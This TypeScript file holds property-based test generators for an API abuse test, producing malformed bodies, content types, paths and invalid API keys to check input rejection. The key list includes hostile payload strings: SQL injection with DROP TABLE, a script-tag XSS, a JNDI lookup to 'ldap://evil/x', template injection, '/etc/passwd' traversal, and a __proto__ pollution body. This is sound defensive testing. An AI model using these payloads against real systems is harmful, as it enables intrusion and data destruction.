import fc from 'fast-check';

// The parts of the abuse test's generated traffic (test/integration/abuse.test.ts): fast-check
// arbitraries of bad bodies, content types, methods, paths and API keys. Each is combined into
// whole requests by test/support/abuse-traffic.ts.

/** One generated request: raw header pairs (duplicates and any name case allowed) and raw body bytes. */
export interface Spec {
  readonly category: string;
  readonly method: string;
  readonly path: string;
  readonly headers: ReadonlyArray<readonly [string, string]>;
  readonly body?: Buffer;
  /** Short description of what makes it bad, for reports. */
  readonly note: string;
}

export type KeyRef = 'none' | 'free' | 'pro' | 'business' | 'enterprise';
/** Key references are resolved after the platform started (demo keys are random per run). */
export const keyRef = fc.constantFrom<KeyRef>('none', 'free', 'pro', 'business', 'enterprise');

const latin1OfUtf8 = (s: string) => Buffer.from(s, 'utf8').toString('latin1');
export const json = (v: unknown) => Buffer.from(JSON.stringify(v), 'utf8');

/** Bodies that are never a valid send request. */
export const badBody: fc.Arbitrary<{ body: Buffer; note: string }> = fc.oneof(
  // malformed JSON text
  fc.string({ maxLength: 200 }).filter((s) => !s.trim().startsWith('{')).map((s) => ({ body: Buffer.from(s), note: 'text' })),
  // truncated JSON: a valid send body cut short
  fc
    .tuple(fc.string({ minLength: 1, maxLength: 100 }), fc.nat())
    .map(([m, n]) => {
      const full = JSON.stringify({ message: m });
      const cut = full.slice(0, n % full.length);
      return { body: Buffer.from(cut), note: `truncated@${cut.length}` };
    }),
  // JSON that is not an object
  fc.oneof(fc.jsonValue().filter((v) => typeof v !== 'object' || v === null || Array.isArray(v)))
    .map((v) => ({ body: json(v), note: 'non-object JSON' })),
  // wrong fields
  fc
    .oneof(
      fc.record({ message: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.string()), fc.constant('')) }),
      fc.record({ msg: fc.string() }),
      fc.record({ message: fc.string({ minLength: 1 }), extra: fc.jsonValue() }),
      fc.constant({}),
      fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }).filter((k) => k !== 'message'), fc.jsonValue(), { minKeys: 1, maxKeys: 5 }),
    )
    .map((v) => ({ body: json(v), note: `fields ${JSON.stringify(v).slice(0, 60)}` })),
  fc.constantFrom(
    { body: Buffer.from('{"message":"x","__proto__":{"admin":true}}'), note: '__proto__ key' },
    { body: Buffer.from('{"message":"x","message":"y","constructor":1}'), note: 'constructor key' },
    { body: Buffer.from('\uFEFF{"message":"bom"}'), note: 'BOM then JSON' },
    { body: Buffer.from('{"message":"x"} {"message":"y"}'), note: 'two documents' },
    { body: Buffer.from('{"message":"x",}'), note: 'trailing comma' },
    { body: Buffer.from('{\'message\':\'x\'}'), note: 'single quotes' },
    { body: Buffer.from('{"message":NaN}'), note: 'NaN' },
    { body: Buffer.from('   \n\t  '), note: 'whitespace only' },
    { body: Buffer.alloc(0), note: 'empty body' },
  ),
  // invalid UTF-8 bytes inside otherwise JSON-looking bodies
  fc
    .tuple(
      fc.constantFrom(
        [0xff],
        [0xc0, 0xaf],
        [0xed, 0xa0, 0x80],
        [0x80],
        [0xe2, 0x82],
        [0xf8, 0x88, 0x80, 0x80, 0x80],
        [0xfe, 0xff],
      ),
      fc.uint8Array({ maxLength: 40 }),
    )
    .map(([bad, extra]) => ({
      body: Buffer.concat([Buffer.from('{"message":"'), Buffer.from(bad), Buffer.from(extra), Buffer.from('"}')]),
      note: `invalid UTF-8 ${Buffer.from(bad).toString('hex')}`,
    })),
  fc.uint8Array({ minLength: 1, maxLength: 300 }).map((b) => ({ body: Buffer.from(b), note: 'random bytes' })),
);

/** Rare, expensive bodies: huge (300 KiB to 1 MiB) and deeply nested (up to 100k levels). */
export const heavyBody: fc.Arbitrary<{ body: Buffer; note: string }> = fc.oneof(
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({
    body: Buffer.from(JSON.stringify({ message: 'a'.repeat(n) })),
    note: `huge valid-shaped body ${n} B`,
  })),
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({ body: Buffer.alloc(n, 0x7b), note: `huge garbage ${n} B` })),
  fc.integer({ min: 300 * 1024, max: 1024 * 1024 }).map((n) => ({
    body: Buffer.concat([Buffer.from('{"message":"'), Buffer.alloc(n, 0xff), Buffer.from('"}')]),
    note: `huge invalid UTF-8 ${n} B`,
  })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('['.repeat(d) + ']'.repeat(d)), note: `nested arrays ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('{"message":' + '['.repeat(d) + ']'.repeat(d) + '}'), note: `nested message ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('{"a":'.repeat(d) + '1' + '}'.repeat(d)), note: `nested objects ${d}` })),
  fc.integer({ min: 1_000, max: 100_000 }).map((d) => ({ body: Buffer.from('['.repeat(d)), note: `unclosed nesting ${d}` })),
);

export const jsonType = fc.constantFrom(
  'application/json',
  'APPLICATION/JSON',
  'application/json; charset=utf-8',
  'Application/Json;charset="utf-8"',
  'application/json; foo=bar',
);
export const badType = fc.oneof(
  fc.constantFrom(
    'text/plain',
    'application/json; charset=latin1',
    'application/json; charset=utf-16',
    'application/json-patch+json',
    'application/problem+json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----x',
    'application/jsonx',
    'json',
    '',
    '*/*',
    'application/*',
    ';;;',
    'application /json',
    '\tapplication/json\t;\tcharset=ascii',
    latin1OfUtf8('application/jsön'),
  ),
  fc.stringMatching(/^[\x20-\x7e]{0,60}$/).filter((s) => !s.trim().toLowerCase().startsWith('application/json')),
);

// Not generated: methods Node's HTTP parser does not know (e.g. `FOO`). The local front's parser
// answers them with a bare `400` (no body, no headers) before any platform code runs; on AWS,
// API Gateway answers them itself.
export const method = fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'GET', 'POST', 'TRACE');
const pathChar = fc.constantFrom(...'abcXYZ019-._~!$&\'()*+,;=:@'.split(''), '%20', '%2F', '%00', '%ZZ', '%', '%E2%82%AC', '%C0%AF', '%FF');
const segment = fc.array(pathChar, { minLength: 1, maxLength: 20 }).map((a) => a.join(''));
export const oddPath = fc.oneof(
  fc.array(segment, { minLength: 1, maxLength: 6 }).map((s) => `/${s.join('/')}`),
  segment.map((s) => `/messages/${s}`),
  segment.map((s) => `/messages/${s}/extra`),
  fc.constantFrom(
    '/',
    '/messages/',
    '//messages',
    '/Messages',
    '/MESSAGES',
    '/messages/../messages',
    '/v1/messages',
    '/messages%2F',
    '/messages?message=x',
    '/messages/%',
    '/messages/%ZZ',
    '/messages/%E0%A4%A',
    '/messages/..',
    '/messages/msg_',
    '/%6Dessages',
  ),
  fc.integer({ min: 500, max: 8_000 }).map((n) => `/messages/${'x'.repeat(n)}`),
  fc.integer({ min: 100, max: 1_500 }).map((n) => '/a'.repeat(n)),
);

/** Key strings that are never a valid key. */
export const hostileKey = (demo: readonly string[]) =>
  fc.oneof(
    // Control characters other than tab are refused by HTTP itself (Node's client will not send them).
    fc.string({ maxLength: 80 }).map((s) => latin1OfUtf8([...s].filter((c) => c === '\t' || (c >= ' ' && c !== '\x7f')).join(''))),
    fc.constantFrom(
      '\' OR \'1\'=\'1',
      'sk_live_\'; DROP TABLE keys; --',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil/x}',
      '{{7*7}}',
      '../../etc/passwd',
      'null',
      'undefined',
      '[object Object]',
      'sk_live_',
      'sk_test_000000000000000000000000000000000000',
      latin1OfUtf8('sk_live_ünïcödé🔑'),
      'sk_live_\t',
      'a\tb',
    ),
    fc.integer({ min: 1_000, max: 8_000 }).map((n) => `sk_live_${'A'.repeat(n)}`),
    fc.stringMatching(/^[0-9A-Za-z]{36}$/).map((s) => `sk_live_${s}`),
    // near-valid: a demo key with one character of its body or checksum changed
    fc.tuple(fc.constantFrom(...demo), fc.nat(), fc.constantFrom(...'0aZz9Q'.split(''))).map(([k, i, c]) => {
      const at = 8 + (i % (k.length - 8));
      const swapped = k[at] === c ? (c === '0' ? '1' : '0') : c;
      return k.slice(0, at) + swapped + k.slice(at + 1);
    }),
    fc.constantFrom(...demo).map((k) => k.toUpperCase()),
    fc.constantFrom(...demo).map((k) => `${k}x`),
    fc.constantFrom(...demo).map((k) => k.slice(0, -1)),
  );
